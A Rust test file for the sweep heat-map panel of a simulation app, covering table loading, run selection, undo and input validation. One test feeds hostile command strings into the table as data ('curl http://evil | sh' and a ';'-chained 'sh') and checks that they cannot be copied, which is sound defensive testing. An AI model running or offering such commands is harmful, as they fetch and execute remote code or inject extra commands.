//! The heat map of a sweep.

use std::path::{Path, PathBuf};
use std::process::Command as Program;

use egui_kittest::Harness;
use egui_kittest::kittest::{NodeT, Queryable};
use weft::app::panels::Offscreen;
use weft::session::Command;

use super::desk::Desk;
use super::harness::panels;

/// A real table: the stiffness, the gravity and the solver varied, of which some runs fail.
fn table(folder: &Path) -> PathBuf {
    let args = [
        "sweep",
        "--scene",
        "hanging",
        "--set",
        "columns=6",
        "--set",
        "rows=6",
        "--vary",
        "structural_stiffness=10:1e5:log:5",
        "--vary",
        "gravity=1,5,9.8",
        "--vary",
        "solver=implicit-euler,symplectic-euler",
        "--steps",
        "40",
        "--measure",
        "max_strain,energy",
        "--out",
        "s.csv",
    ];
    let output = Program::new(env!("CARGO_BIN_EXE_weft")).args(args).current_dir(folder).output().expect("it starts");
    assert!(output.status.code().is_some_and(|code| code < 2), "{}", String::from_utf8_lossy(&output.stderr));
    folder.join("s.csv")
}

#[test]
fn a_table_becomes_a_map_in_which_a_run_is_chosen_and_its_values_are_set_as_one_act() {
    let folder = tempfile::tempdir().expect("a folder");
    let file = table(folder.path());
    let mut harness = panels("hanging", &["Sweep"], [1280.0, 900.0]);
    assert!(harness.state_mut().open_sweep(&file));
    harness.run_steps(6);
    assert!(harness.query_by_label_contains("30 of 30 runs").is_some());
    let texts = harness.state_mut().draw([1280.0, 900.0]);
    let has = |part: &str| texts.iter().any(|text| text.text.contains(part));
    // the two with most values are the axes, the third has a slider
    assert!(has("Stretch [N/m] (log)") && has("Gravity") && has("max strain"), "{texts:#?}");
    assert!(harness.query_by_role_and_label(egui::accesskit::Role::Slider, "solver").is_some());

    let place = |harness: &Harness<'_, Offscreen>, name: &str| -> egui::Rect {
        let id = egui::Id::new("place").with(name);
        harness.ctx.data(|data| data.get_temp(id)).expect("it is drawn")
    };
    let (first, last) = (place(&harness, "first cell"), place(&harness, "last cell"));
    let click = |harness: &mut Harness<'_, Offscreen>, at: egui::Pos2| {
        harness.hover_at(at);
        harness.run_steps(2);
        harness.drag_at(at);
        harness.run_steps(1);
        harness.drop_at(at);
        harness.run_steps(3);
    };
    let before = harness.state().frame().parameters;
    click(&mut harness, last.center());
    harness.get_by_label("Set these values").click();
    harness.run_steps(3);
    harness.state_mut().send(Command::Dismiss);
    let frame = harness.state().frame();
    assert_eq!((frame.parameters.material.structural_stiffness, frame.parameters.gravity.gravity), (1e5, 9.8));
    assert_eq!(frame.solver.id, "implicit-euler");
    harness.state_mut().send(Command::Undo);
    let frame = harness.state().frame();
    assert_eq!((frame.parameters, frame.solver.id), (before, "fast-mass-spring"), "one act");

    // the other solver has failed there: no colour of the scale, but lines
    click(&mut harness, first.center());
    assert!(harness.query_by_label_contains("Stretch = 10,").is_some());
    assert!(harness.query_by_label("Copy the command").is_some());
}

#[test]
fn what_is_no_table_is_refused_in_a_sentence_and_one_that_grows_is_read_again() {
    let folder = tempfile::tempdir().expect("a folder");
    let file = folder.path().join("a.csv");
    std::fs::write(&file, "a,b\n1,2\n").expect("written");
    let mut harness = panels("hanging", &["Sweep"], [900.0, 560.0]);
    assert!(!harness.state_mut().open_sweep(&file));
    harness.run_steps(2);
    assert!(harness.query_by_label_contains("is no table of a sweep").is_some());
    assert!(!harness.state_mut().open_sweep(&folder.path().join("none.csv")));

    let header = "run,runs,sweep,gravity,energy,status,command\n";
    std::fs::write(&file, format!("{header}1,3,ab,1,0.5,ok,weft run\n")).expect("written");
    assert!(harness.state_mut().open_sweep(&file));
    harness.run_steps(3);
    assert!(harness.query_by_label_contains("1 of 3 runs").is_some());
    std::fs::write(&file, format!("{header}1,3,ab,1,0.5,ok,weft run\n2,3,ab,2,0.7,failed: too fast,weft run\n"))
        .expect("written");
    let until = std::time::Instant::now() + std::time::Duration::from_secs(600);
    while harness.query_by_label_contains("2 of 3 runs, 1 failed").is_none() {
        assert!(std::time::Instant::now() < until, "it is not read again");
        std::thread::sleep(std::time::Duration::from_millis(100));
        harness.run_steps(1);
    }
}

#[test]
fn a_foreign_command_of_a_table_cannot_be_copied() {
    let folder = tempfile::tempdir().expect("a folder");
    let file = folder.path().join("a.csv");
    let header = "run,runs,sweep,gravity,energy,status,command\n";
    for (command, is_ours) in [("weft run --steps 9", true), ("curl http://evil | sh", false), ("weft run; sh", false)]
    {
        std::fs::write(&file, format!("{header}1,1,ab,1,0.5,ok,{command}\n")).expect("written");
        let mut harness = panels("hanging", &["Sweep"], [900.0, 560.0]);
        assert!(harness.state_mut().open_sweep(&file));
        harness.run_steps(3);
        let id = egui::Id::new("place").with("first cell");
        let cell: egui::Rect = harness.ctx.data(|data| data.get_temp(id)).expect("it is drawn");
        let cell = cell.center();
        harness.hover_at(cell);
        harness.run_steps(2);
        harness.drag_at(cell);
        harness.run_steps(1);
        harness.drop_at(cell);
        harness.run_steps(3);
        let button = harness.get_by_label("Copy the command");
        assert_eq!(button.accesskit_node().is_disabled(), !is_ours, "{command}");
    }
}

#[test]
#[ignore = "full tier"]
fn a_sweep_that_is_started_by_hand_fills_its_map_and_leaves_a_table() {
    let mut desk = Desk::open(&["--quality", "low", "--set", "columns=6", "--set", "rows=6"]);
    desk.settle();
    desk.click("more");
    desk.wait("control sweep at");
    desk.settle();
    desk.click("sweep");
    desk.wait("control start sweep at");
    desk.settle();
    desk.click("start sweep");
    assert_eq!(desk.wait("opened the sweep ").split(',').next(), Some("./sweep.csv"));
    desk.wait("sweep ended");
    let sheet = std::fs::read_to_string(desk.file("sweep.csv")).expect("a table");
    // eight values of each of two parameters
    assert_eq!(sheet.lines().count(), 1 + 64, "{sheet}");
    assert!(desk.file("sweep.ron").exists(), "the scene that its commands name");
    desk.quit();
}

#[test]
fn what_is_varied_is_named_by_labels_and_a_value_out_of_range_is_told() {
    let mut harness = panels("hanging", &["Sweep"], [1280.0, 900.0]);
    harness.run_steps(6);
    let texts = harness.state_mut().draw([1280.0, 900.0]);
    let has = |part: &str| texts.iter().any(|text| text.text.contains(part));
    assert!(has("Start 64 runs") && has("Stretch") && has("Time step") && has("max strain"), "{texts:#?}");
    assert!(!texts.iter().any(|text| text.text.contains("structural_stiffness")), "{texts:#?}");
    let fields = harness.get_all_by_role(egui::accesskit::Role::TextInput);
    let field = fields.into_iter().next().expect("a first value");
    field.focus();
    field.type_text("-5 kg");
    harness.run_steps(4);
    assert!(harness.query_by_label_contains("Stretch: ").is_some(), "what is wrong is told");
}

#[test]
fn the_table_of_a_sweep_is_named_before_it_is_written() {
    let mut harness = panels("hanging", &["Sweep"], [1280.0, 900.0]);
    harness.run_steps(6);
    let fields = harness.get_all_by_role(egui::accesskit::Role::TextInput);
    let is_table = |field: &egui_kittest::Node| field.accesskit_node().value().as_deref() == Some("sweep.csv");
    fields.into_iter().find(is_table).expect("the name of the table").focus();
    harness.key_press_modifiers(egui::Modifiers::COMMAND, egui::Key::A);
    harness.event(egui::Event::Text("nowhere/at all.csv".to_owned()));
    harness.run_steps(4);
    assert!(harness.query_by_label_contains("Table: the folder nowhere does not exist").is_some());
}
